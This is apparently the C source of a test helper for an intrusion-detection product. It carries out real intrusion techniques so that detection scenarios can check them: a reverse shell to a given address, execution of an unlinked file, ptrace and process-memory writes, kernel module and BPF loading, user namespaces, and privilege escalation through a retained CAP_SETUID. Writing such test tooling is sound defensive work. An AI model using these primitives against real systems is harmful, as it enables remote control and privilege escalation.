// sg-detecttool: the detect scenarios' helper (tests/vm/scenarios/detect*.sh), built
// statically into the guest by initramfs.sh; never part of the product. Each command runs
// one intrusion technique for real and prints "ok" (exit 0) or "error: <strerror>" (exit
// 1) on stderr; a task killed by the agent prints nothing.
//   sg-detecttool revshell ADDR PORT PROG [ARG...]  connect over TCP, make the socket
//                                                   stdin and stdout, exec PROG
//   sg-detecttool deleted FILE ARGV0 [ARG...]       open FILE, unlink it, exec the open file
//   sg-detecttool ptrace PID                        PTRACE_ATTACH, then detach
//   sg-detecttool vmwrite PID                       process_vm_writev of one byte to PID
//   sg-detecttool procmem PID                       open /proc/PID/mem for writing
//   sg-detecttool initmod                           init_module(2) of 256 zero bytes
//   sg-detecttool finitmod FILE                     finit_module(2) of FILE
//   sg-detecttool bpfload                           load a two-instruction socket filter
//   sg-detecttool userns                            unshare(CLONE_NEWUSER)
//   sg-detecttool ids                               print "uid UID euid EUID"
//   sg-detecttool capsetuid UID                     as root: become UID keeping
//                                                   CAP_SETUID, print "dropped", then
//                                                   setuid(0) and print the uid
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/capability.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static int result(int rc)
{
	if (rc < 0) {
		fprintf(stderr, "error: %s\n", strerror(errno));
		return 1;
	}
	fprintf(stderr, "ok\n");
	return 0;
}

static int revshell(const char *addr, const char *port, char **argv)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || inet_pton(AF_INET, addr, &sin.sin_addr) != 1)
		return result(-1);
	if (connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0)
		return result(-1);
	if (dup2(fd, 0) < 0 || dup2(fd, 1) < 0)
		return result(-1);
	execve(argv[0], argv, environ);
	return result(-1);
}

static int deleted(const char *file, char **argv)
{
	int fd = open(file, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || unlink(file) < 0)
		return result(-1);
	syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
	return result(-1);
}

static int attach(pid_t pid)
{
	int status;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return result(-1);
	waitpid(pid, &status, 0);
	return result(ptrace(PTRACE_DETACH, pid, 0, 0));
}

static int vmwrite(pid_t pid)
{
	char byte = 0;
	struct iovec local = { &byte, 1 }, remote = { (void *)8, 1 };

	/* The address is unmapped: past the hook the kernel answers EFAULT. */
	return result(process_vm_writev(pid, &local, 1, &remote, 1, 0));
}

static int procmem(const char *pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	return result(open(path, O_RDWR));
}

static int bpfload(void)
{
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
	union bpf_attr attr;

	/* 5.10 charges programs to RLIMIT_MEMLOCK (EPERM past it); 5.11+ to the memcg */
	setrlimit(RLIMIT_MEMLOCK, &unlimited);
	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insns = (unsigned long)insns;
	attr.insn_cnt = 2;
	attr.license = (unsigned long)"GPL";
	strcpy(attr.prog_name, "sg_test_prog");
	return result(syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
}

/* A non-root task holding CAP_SETUID (a leaked or file capability) makes itself root. */
static int capsetuid(const char *uid_text)
{
	struct __user_cap_header_struct hdr = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2] = {};
	uid_t uid = atoi(uid_text);

	if (prctl(PR_SET_KEEPCAPS, 1) < 0 || setresuid(uid, uid, uid) < 0)
		return result(-1);
	data[0].permitted = data[0].effective = 1U << CAP_SETUID;
	if (syscall(SYS_capset, &hdr, data) < 0)
		return result(-1);
	fprintf(stderr, "dropped %d\n", (int)getuid());
	if (setuid(0) < 0)
		return result(-1);
	fprintf(stderr, "uid %d\n", (int)getuid());
	return result(0);
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	if (!strcmp(cmd, "revshell") && argc > 4)
		return revshell(argv[2], argv[3], argv + 4);
	if (!strcmp(cmd, "deleted") && argc > 3)
		return deleted(argv[2], argv + 3);
	if (!strcmp(cmd, "ptrace") && argc == 3)
		return attach(atoi(argv[2]));
	if (!strcmp(cmd, "vmwrite") && argc == 3)
		return vmwrite(atoi(argv[2]));
	if (!strcmp(cmd, "procmem") && argc == 3)
		return procmem(argv[2]);
	if (!strcmp(cmd, "initmod") && argc == 2)
		/* longer than an ELF header: shorter images are refused before the hook */
		return result(syscall(SYS_init_module, calloc(1, 256), 256, ""));
	if (!strcmp(cmd, "finitmod") && argc == 3) {
		int fd = open(argv[2], O_RDONLY);

		return result(fd < 0 ? -1 : syscall(SYS_finit_module, fd, "", 0));
	}
	if (!strcmp(cmd, "bpfload") && argc == 2)
		return bpfload();
	if (!strcmp(cmd, "ids") && argc == 2) {
		fprintf(stderr, "uid %d euid %d\n", (int)getuid(), (int)geteuid());
		return 0;
	}
	if (!strcmp(cmd, "capsetuid") && argc == 3)
		return capsetuid(argv[2]);
	if (!strcmp(cmd, "userns") && argc == 2)
		return result(unshare(CLONE_NEWUSER));
	fprintf(stderr, "usage: see tests/vm/detecttool.c\n");
	return 2;
}
